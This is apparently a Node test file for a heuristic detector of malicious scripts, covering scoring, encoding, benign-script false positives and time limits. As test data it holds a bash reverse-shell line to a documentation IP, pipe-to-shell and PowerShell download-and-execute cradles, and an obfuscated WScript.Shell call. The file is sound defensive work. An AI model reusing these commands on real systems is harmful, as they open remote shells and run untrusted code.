import assert from 'node:assert/strict'
import { test } from 'node:test'

import { detectContext } from '../../../../test/support/detect-context.ts'
import { checkDetector } from '../../../../test/support/detector-contract.ts'
import { Budget, defaultLimits } from '../../limits.ts'
import { headBytes, type Language } from '../../scan-object.ts'
import { bytesSource } from '../../source/byte-source.ts'
import type { Suspicion } from '../detector.ts'
import { suspiciousScripts } from './fixture.ts'
import { scriptDetector } from './index.ts'

function finding(content: string | Uint8Array, language?: Language, name = 'sample'): Suspicion | undefined {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content
  const found: Suspicion[] = []
  scriptDetector.detect(
    {
      chain: [name],
      depth: 0,
      source: bytesSource(bytes),
      head: new Uint8Array(bytes.subarray(0, headBytes)),
      ...(language === undefined ? {} : { language }),
    },
    detectContext({ report: assert.fail, suspect: (suspicion) => found.push(suspicion) }),
  )
  assert.ok(found.length < 2)
  return found[0]
}

for (const { title, text, language, name, least } of suspiciousScripts) {
  test(`suspicious: ${title}`, () => {
    const found = finding(text, language)
    assert.equal(found?.name, name)
    assert.ok(found.score >= least && found.score < 100, `${found.score}`)
    assert.ok(found.reasons.length > 0 && found.reasons.length <= 8)
    assert.match(found.techniques[0] ?? '', /^T1059/)
  })
}

test('UTF-16 is read as the text it is', () => {
  const [first] = suspiciousScripts
  assert.ok(first !== undefined)
  const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(first.text, 'utf16le')])
  assert.equal(finding(bytes, 'batch')?.name, 'Heuristic.Script.Batch')
})

test('what is hidden weighs more than what is written plainly', () => {
  const plain = finding('WScript.CreateObject("WScript.Shell").Run "notes.exe"', 'vbscript')
  const hidden = finding('CreateObject(StrReverse("llehS.tpircSW")).Run "notes.exe"', 'vbscript')
  assert.ok((plain?.score ?? 0) < (hidden?.score ?? 0))
  assert.ok((hidden?.score ?? 100) < 60)
})

test('languages of documents and servers are not ours', () => {
  const [, cradle] = suspiciousScripts
  for (const language of ['vba', 'php', 'asp', 'jsp', 'dde'] as const) {
    assert.equal(finding(cradle?.text ?? '', language), undefined)
  }
})

const ordinary: readonly (readonly [title: string, name: string, text: string])[] = [
  [
    'an installer',
    'install.sh',
    '#!/bin/sh\nset -e\ncurl -fsSL https://get.example.org/setup.sh | sh -s -- --yes\n',
  ],
  [
    'a download of a release',
    'get.sh',
    '#!/bin/bash\ncurl -L https://example.org/tool-1.0.tar.gz | tar xz\nchmod +x tool\n./tool --version\n',
  ],
  [
    'a probe of a port',
    'wait.sh',
    '#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n',
  ],
  [
    'a service that is asked',
    'health.sh',
    '#!/bin/sh\nnc -z localhost 8080 && wget -qO- http://127.0.0.1:8080/health\n',
  ],
  [
    'a task of cron',
    'cron.sh',
    '#!/bin/sh\n(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -\n',
  ],
  [
    'words of documentation',
    'README.md',
    'Run `bash -i >& /dev/tcp/203.0.113.7/1 0>&1` to see that it is found.\n',
  ],
  [
    'Chocolatey',
    'setup.ps1',
    "Set-ExecutionPolicy Bypass -Scope Process -Force\niex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n",
  ],
  [
    'a module',
    'tools.psm1',
    'function Get-Thing {\n  param([string]$Name)\n  Get-ChildItem $Name | Where-Object { $_.Length -gt 1 }\n}\nExport-ModuleMember Get-Thing\n',
  ],
  [
    'a build',
    'build.bat',
    '@echo off\nsetlocal\nset OUT=%~dp0out\nif exist "%OUT%" rmdir /s /q "%OUT%"\nmsbuild app.sln /p:Configuration=Release\ncopy /y bin\\app.exe "%OUT%"\n',
  ],
  [
    'a logon script',
    'logon.vbs',
    'Set n = CreateObject("WScript.Network")\nn.MapNetworkDrive "H:", "\\\\server\\home"\nSet s = CreateObject("WScript.Shell")\ns.Run "notepad.exe c:\\news.txt", 1, False\n',
  ],
  [
    'a request of an old browser',
    'ajax.js',
    'function get(u){var x=window.XMLHttpRequest?new XMLHttpRequest():new ActiveXObject("Microsoft.XMLHTTP");x.open("GET",u,true);x.send();return eval("("+x.responseText+")")}\n',
  ],
  [
    'a file that a page offers',
    'export.js',
    'const blob = new Blob([csv], {type: "text/csv"}); const a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "table.csv"; a.click()\n',
  ],
  [
    'code for counting visits',
    'ga.js',
    "document.write(unescape(\"%3Cscript src='https://stats.example.org/ga.js' type='text/javascript'%3E%3C/script%3E\"));\n",
  ],
  [
    'a server',
    'server.py',
    'import socket, os\ns = socket.socket()\ns.bind(("", 8000))\ns.listen(5)\nwhile True:\n    c, a = s.accept()\n    c.sendall(c.recv(1024))\n',
  ],
  [
    'a daemon',
    'daemon.py',
    'import os, sys\nsys.stdout.flush()\nos.dup2(open(os.devnull).fileno(), sys.stdin.fileno())\nos.dup2(open("log", "a").fileno(), sys.stdout.fileno())\n',
  ],
  [
    'a client of IRC',
    'client.pl',
    '#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new("irc.example.org:6667");\nprint $s "NICK me\\r\\nJOIN #perl\\r\\nPRIVMSG #perl :hello\\r\\n";\n',
  ],
]
for (const [title, name, text] of ordinary) {
  test(`ordinary: ${title}`, () => {
    const found = finding(text, undefined, name)
    assert.ok((found?.score ?? 0) < 60, JSON.stringify(found))
  })
}

test('hostile texts cost bounded time', () => {
  const hostile: readonly (readonly [Language, string])[] = [
    ['javascript', `eval(unescape("${'('.repeat(400_000)}`],
    ['javascript', `wscript. ${'"a"+'.repeat(200_000)}"b"`],
    ['javascript', `activexobject;a="x";${'a=a+a;'.repeat(5000)}`],
    ['javascript', 'wscript.shell '.repeat(80_000)],
    ['javascript', `eval(atob(${'['.repeat(300_000)}`],
    ['javascript', 'eval(String.fromCharCode('.repeat(40_000)],
    ['vbscript', `x=${'chr(1)&'.repeat(100_000)}`],
    ['powershell', `${"'a',".repeat(150_000)}'b' -join ''`],
    ['powershell', '$a=$a+$a;'.repeat(50_000)],
    ['powershell', `("{0}" -f ${'('.repeat(200_000)}`],
    ['powershell', 'iex downloadstring '.repeat(50_000)],
    ['powershell', `0..5000 ${'-join '.repeat(100_000)}`],
    ['batch', `set a=%b%%b%\n${'set b=%a%%a%\nset a=%b%%b%\n'.repeat(2000)}`],
    ['batch', '%'.repeat(500_000)],
    ['shell', `wget \na=aaaaaaaaaa\n${'a="$a$a$a"\n'.repeat(5000)}`],
    ['shell', `wget ${'echo '.repeat(200_000)}`],
    ['shell', `curl ${'* '.repeat(300_000)}`],
    ['python', `exec(${'b"'.repeat(200_000)}`],
    ['python', '.connect( dup2( '.repeat(60_000)],
    ['perl', 'socket connect '.repeat(80_000)],
  ]
  for (const [index, [language, text]] of hostile.entries()) {
    const started = performance.now()
    finding(text, language)
    assert.ok(performance.now() - started < 2500, `${index}: ${Math.round(performance.now() - started)} ms`)
  }
})

test('the clock is looked at', () => {
  const bytes = Buffer.from(`wscript.${'x=("a"+"b");'.repeat(50_000)}`)
  const budget = new Budget({ ...defaultLimits, maxMs: 0 })
  assert.throws(
    () =>
      scriptDetector.detect(
        {
          chain: ['a'],
          depth: 0,
          source: bytesSource(bytes),
          head: new Uint8Array(bytes.subarray(0, headBytes)),
          language: 'javascript',
        },
        detectContext({ report: assert.fail, budget }),
      ),
    /took longer/,
  )
})

checkDetector(
  scriptDetector,
  suspiciousScripts.filter(({ language }) => language === undefined).map(({ text }) => Buffer.from(text)),
)
